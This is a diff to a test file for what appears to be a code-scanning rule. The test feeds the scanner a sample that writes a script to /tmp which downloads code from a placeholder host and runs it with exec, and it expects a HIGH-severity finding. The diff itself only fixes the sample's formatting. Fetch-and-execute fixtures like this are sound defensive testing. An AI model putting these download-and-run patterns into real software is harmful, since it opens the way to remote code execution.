@@ -40,11 +40,10 @@ subprocess.Popen([sys.executable, "-c", "import requests as r; exec(r.get('https
 
 
 def test_in_a_program_that_is_written_first(scan):
-    text = r""" import os
- with open("/tmp/next.py", "w") as f:
-     f.write("import urllib.request
-exec(urllib.request.urlopen('https://files.example.test/a').read())")
- os.system("python3 /tmp/next.py &")
+    text = r"""import os
+with open("/tmp/next.py", "w") as f:
+    f.write("import urllib.request\nexec(urllib.request.urlopen('https://files.example.test/a').read())")
+os.system("python3 /tmp/next.py &")
 """
     assert scan(RULE, text, "package/__init__.py") == [(4, "HIGH", "HIGH", "import")]
 
